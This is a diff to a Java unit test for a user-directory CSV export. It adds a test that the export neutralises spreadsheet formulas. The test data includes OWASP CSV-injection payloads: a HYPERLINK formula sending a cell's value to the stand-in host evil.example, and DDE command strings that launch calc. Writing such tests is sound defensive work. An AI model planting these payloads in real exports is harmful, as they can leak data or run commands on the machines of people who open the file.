@@ -86,16 +86,8 @@ class DirectoryExportTest {
 
     @Test
     void csvHasOneRowPerActiveUserWithTheRightColumns() throws Exception {
-        Path file = exportOnce(ExportFormat.CSV);
+        List<CSVRecord> rows = readCsv(exportOnce(ExportFormat.CSV));
 
-        List<CSVRecord> rows;
-        try (Reader reader = Files.newBufferedReader(file, StandardCharsets.UTF_8);
-             CSVParser parser = CSVParser.builder().setReader(reader)
-                     .setFormat(CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()).get()) {
-            assertThat(parser.getHeaderNames()).containsExactly("id", "userName", "active", "givenName",
-                    "familyName", "email", "title", "department", "externalId");
-            rows = parser.getRecords();
-        }
         Map<String, JsonNode> expected = activeUsersById();
         assertThat(rows).extracting(row -> row.get("id"))
                 .doesNotHaveDuplicates().containsExactlyInAnyOrderElementsOf(expected.keySet());
@@ -112,10 +104,49 @@ class DirectoryExportTest {
                     "department", user.path(ScimSchemas.ENTERPRISE_USER).path("department").asText(""),
                     "externalId", user.path("externalId").asText("")));
         }
-        CSVRecord awkward = rows.stream().filter(row -> row.get("userName").equals("zoe.quote@example.com"))
-                .findFirst().orElseThrow();
+        CSVRecord awkward = row(rows, "zoe.quote@example.com");
         assertThat(awkward.get("title")).isEqualTo("Head of \"Data\",\nAnalytics; Reporting");
         assertThat(awkward.get("email")).isEqualTo("zoe.quote@example.com");
+    }
+
+    @Test
+    void csvCellsThatWouldStartAFormulaAreWrittenAsText() throws Exception {
+        // OWASP's CSV injection examples, one per character a spreadsheet reads as the start of a formula
+        lucid.seedUser("""
+                {"userName": "formula@example.com", "externalId": "\\t=1+2",
+                 "name": {"givenName": "=HYPERLINK(\\"https://evil.example/?\\"&A1,\\"Details\\")",
+                          "familyName": "+cmd|' /C calc'!A0"},
+                 "title": "-2+3+cmd|' /C calc'!A0",
+                 "emails": [{"value": "formula@example.com"}],
+                 "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User": {"department": "@SUM(1+9)"}}""");
+        lucid.seedUser("""
+                {"userName": "cr@example.com", "title": "\\r=1+2", "emails": [{"value": "cr@example.com"}]}""");
+
+        List<CSVRecord> rows = readCsv(exportOnce(ExportFormat.CSV));
+
+        assertThat(row(rows, "formula@example.com").toMap()).containsAllEntriesOf(Map.of(
+                "givenName", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")",
+                "familyName", "'+cmd|' /C calc'!A0",
+                "title", "'-2+3+cmd|' /C calc'!A0",
+                "department", "'@SUM(1+9)",
+                "externalId", "'\t=1+2",
+                "email", "formula@example.com"));
+        assertThat(row(rows, "cr@example.com").get("title")).isEqualTo("'\r=1+2");
+    }
+
+    private static CSVRecord row(List<CSVRecord> rows, String userName) {
+        return rows.stream().filter(row -> row.get("userName").equals(userName)).findFirst().orElseThrow();
+    }
+
+    /** The export's rows, read back with Commons CSV, after checking its header. */
+    private static List<CSVRecord> readCsv(Path file) throws IOException {
+        try (Reader reader = Files.newBufferedReader(file, StandardCharsets.UTF_8);
+             CSVParser parser = CSVParser.builder().setReader(reader)
+                     .setFormat(CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()).get()) {
+            assertThat(parser.getHeaderNames()).containsExactly("id", "userName", "active", "givenName",
+                    "familyName", "email", "title", "department", "externalId");
+            return parser.getRecords();
+        }
     }
 
     /** Runs the application's export once into the test's folder and returns the one file it wrote. */
